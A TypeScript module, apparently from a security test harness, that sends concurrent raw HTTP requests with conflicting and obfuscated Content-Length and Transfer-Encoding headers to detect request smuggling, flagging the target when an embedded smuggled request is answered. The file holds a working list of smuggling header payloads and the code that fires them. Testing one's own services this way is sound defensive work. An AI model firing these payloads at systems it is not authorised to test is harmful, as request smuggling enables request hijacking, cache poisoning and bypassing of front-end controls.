import type { Attack } from './attack.ts';
import { atOnce, pick } from './attack.ts';
import { exchange } from './raw-connection.ts';

/** The request that must not be answered: whoever stands before the service took it for a body. */
const SMUGGLED = 'GET /healthz HTTP/1.1\r\nHost: x\r\nX-Request-Id: smuggled\r\n\r\n';
const LENGTH = `Content-Length: ${SMUGGLED.length + 5}`;
const HEADERS = [
  `${LENGTH}\r\nTransfer-Encoding: chunked`,
  `Transfer-Encoding: chunked\r\n${LENGTH}`,
  `${LENGTH}\r\nContent-Length: 5`,
  `Content-Length: 5\r\n${LENGTH}`,
  `${LENGTH}\r\nTransfer-Encoding: xchunked`,
  `${LENGTH}\r\nTransfer-Encoding : chunked`,
  `${LENGTH}\r\nTransfer-Encoding:\x0bchunked`,
  `${LENGTH}\r\nTransfer-Encoding: chunked, identity`,
  `${LENGTH}\r\nTransfer-Encoding: identity, chunked`,
  `${LENGTH}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: x`,
  `${LENGTH}\r\nX: y\r\n Transfer-Encoding: chunked`,
  `${LENGTH}\r\nTransfer-Encoding:\r\n chunked`,
  `${LENGTH}\nTransfer-Encoding: chunked`,
  `${LENGTH}\rTransfer-Encoding: chunked`,
  `${LENGTH}\r\nX: \x00\r\nTransfer-Encoding: chunked`,
  `${LENGTH}\r\nTransfer-encoding: CHUNKED\x00`,
  ` ${LENGTH}\r\nTransfer-Encoding: chunked`,
];
const LINES = ['POST /api/saved-searches', 'GET /healthz', 'POST /saved', 'DELETE /healthz'];
const CONNECTIONS = 34;

/** Heads of which two readers could find two different ends of the request. */
export const smuggling: Attack = {
  name: 'smuggling',
  async run(target, random) {
    const requests = Array.from({ length: CONNECTIONS }, () => {
      const head = `${pick(LINES, random)} HTTP/1.1\r\nHost: x\r\n${pick(HEADERS, random)}`;
      return `${head}\r\n\r\n0\r\n\r\n${SMUGGLED}`;
    });
    await atOnce(CONNECTIONS, async (client) => {
      const bytes = requests[client]!;
      const what = JSON.stringify(bytes);
      const answers = await exchange(target, { bytes, most: 2, withinMs: 600, client, what });
      if (answers.some(({ headers }) => headers.get('x-request-id') === 'smuggled'))
        target.note(`${what}：夹带的请求得到了应答`);
    });
  },
};
